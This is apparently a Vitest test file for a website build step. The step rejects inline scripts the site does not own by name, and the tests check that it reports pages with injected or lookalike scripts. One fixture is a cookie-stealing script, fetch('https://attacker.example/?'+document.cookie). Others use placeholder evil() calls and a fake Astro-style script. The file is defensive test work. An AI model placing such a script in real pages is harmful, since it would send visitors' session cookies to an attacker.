// @vitest-environment node
import { describe, expect, it } from "vitest";
import { inlineScriptHashes } from "./csp-manifest";
import { astroRuntimeScript, checkInlineScripts, OWNED_INLINE_SCRIPTS } from "./inline-scripts";

const island = await astroRuntimeScript("server/astro-island");
const visible = await astroRuntimeScript("client/visible");

const page = (body: string) =>
  `<!doctype html><html><head><script type="application/ld+json">{"@type":"Organization"}</script></head><body>${body}</body></html>`;

describe("only the inline scripts the site owns, by name, reach a page", () => {
  it("lists ours by name", () => {
    expect(Object.keys(OWNED_INLINE_SCRIPTS)).toEqual([
      "text-face",
      "header-condense",
      "deferred-stylesheets",
      "marquee-copy",
      "client-logos",
      "contact-openers",
      "menus",
      "lead-source",
      "hero",
    ]);
  });

  it("keeps our named scripts and Astro's own, and takes the names off", async () => {
    const html = page(
      `<script data-inline-script="header-condense">condense()</script><script>${island}</script><script>${visible}</script>`,
    );
    const { pages, problems } = await checkInlineScripts([{ file: "/index.html", html }]);
    expect(problems).toEqual([]);
    expect(pages[0]!.html).toBe(page(`<script>condense()</script><script>${island}</script><script>${visible}</script>`));
    expect(inlineScriptHashes(pages[0]!.html)).toHaveLength(3);
  });

  it("fails on any other inline script, naming the page", async () => {
    const { problems } = await checkInlineScripts([
      { file: "/insights/x/index.html", html: page("<p>Text</p><script>fetch('https://attacker.example/?'+document.cookie)</script>") },
      { file: "/a/index.html", html: page('<script type="module">go()</script>') },
    ]);
    expect(problems).toEqual([
      "/insights/x/index.html: an inline script the site does not own: <script>fetch('https://attacker.example/?'+document.cookie)",
      '/a/index.html: an inline script the site does not own: <script type="module">go()',
    ]);
  });

  it("fails on a name not in the list, and on one name given to two scripts", async () => {
    const { problems } = await checkInlineScripts([
      {
        file: "/a/index.html",
        html: page('<script data-inline-script="mine">x()</script><script data-inline-script="text-face">face()</script>'),
      },
      { file: "/b/index.html", html: page('<script data-inline-script="text-face">evil()</script>') },
    ]);
    expect(problems).toEqual([
      '/a/index.html: an inline script named "mine", a name not in OWNED_INLINE_SCRIPTS (integrations/site-output/inline-scripts.ts)',
      '/b/index.html: the inline script "text-face" differs from the one of that name in /a/index.html',
    ]);
  });

  it("does not take a script for Astro's by its look alone", async () => {
    const fake = `(()=>{evil();(self.Astro||(self.Astro={})).visible=i,window.dispatchEvent(new Event("astro:idle"))})()`;
    const unknown = `(()=>{evil();(self.Astro||(self.Astro={})).steal=i,window.dispatchEvent(new Event("astro:steal"))})()`;
    const { problems } = await checkInlineScripts([
      { file: "/a.html", html: page(`<script>${fake}</script><script>${unknown}</script><script>${island}x</script>`) },
    ]);
    expect(problems).toHaveLength(3);
  });
});
